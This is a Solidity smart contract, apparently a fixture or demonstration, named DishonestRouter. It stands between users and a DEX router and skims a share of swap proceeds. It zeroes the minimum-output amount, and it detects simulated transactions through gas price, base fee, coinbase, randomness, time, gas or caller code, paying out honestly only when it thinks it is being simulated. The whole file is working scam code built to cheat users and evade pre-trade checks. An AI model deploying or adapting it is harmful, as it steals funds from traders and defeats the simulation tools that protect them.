// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface Erc20 {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
}

/// Takes the calls of the router it belongs to and pays out a share of what that router pays; with a share of zero it
/// reverts. It disregards the least amount. With a sign by which it recognizes trials, it is honest in those.
contract DishonestRouter {
    /// What a carelessly simulated transaction lacks, or has too much of.
    enum Sign {
        None,
        GasPrice,
        BaseFee,
        FeeRecipient,
        Randomness,
        Time,
        Gas,
        Code
    }

    address private immutable router;
    uint256 private immutable percent;
    Sign private immutable sign;

    constructor(address router_, uint256 percent_, Sign sign_) {
        router = router_;
        percent = percent_;
        sign = sign_;
    }

    receive() external payable {}

    fallback() external payable {
        require(percent > 0, "Trading is closed");
        (uint256 amountIn, address[] memory path, address to) = read();
        if (msg.value == 0) {
            Erc20(path[0]).transferFrom(msg.sender, address(this), amountIn);
            Erc20(path[0]).approve(router, amountIn);
        }
        uint256 share = isTrial() ? 100 : percent;
        uint256 balance = address(this).balance;
        swap(amountIn, path);
        if (address(this).balance > balance) {
            (bool isPaid,) = to.call{value: (address(this).balance - balance) * share / 100}("");
            require(isPaid);
        } else {
            Erc20 bought = Erc20(path[path.length - 1]);
            bought.transfer(to, bought.balanceOf(address(this)) * share / 100);
        }
    }

    function isTrial() private view returns (bool) {
        if (sign == Sign.GasPrice) return tx.gasprice == 0;
        if (sign == Sign.BaseFee) return block.basefee == 0;
        if (sign == Sign.FeeRecipient) return block.coinbase == address(0);
        if (sign == Sign.Randomness) return block.prevrandao == 0;
        if (sign == Sign.Time) return block.timestamp < 365 days;
        if (sign == Sign.Gas) return gasleft() > 2_000_000;
        return sign == Sign.Code && msg.sender.code.length > 0;
    }

    function read() private view returns (uint256 amountIn, address[] memory path, address to) {
        if (msg.value > 0) (, path, to,) = abi.decode(msg.data[4:], (uint256, address[], address, uint256));
        else (amountIn,, path, to,) = abi.decode(msg.data[4:], (uint256, uint256, address[], address, uint256));
    }

    function swap(uint256 amountIn, address[] memory path) private {
        bytes memory data = msg.value > 0
            ? abi.encodeWithSelector(msg.sig, 0, path, address(this), block.timestamp)
            : abi.encodeWithSelector(msg.sig, amountIn, 0, path, address(this), block.timestamp);
        (bool isSwapped,) = router.call{value: msg.value}(data);
        require(isSwapped);
    }
}
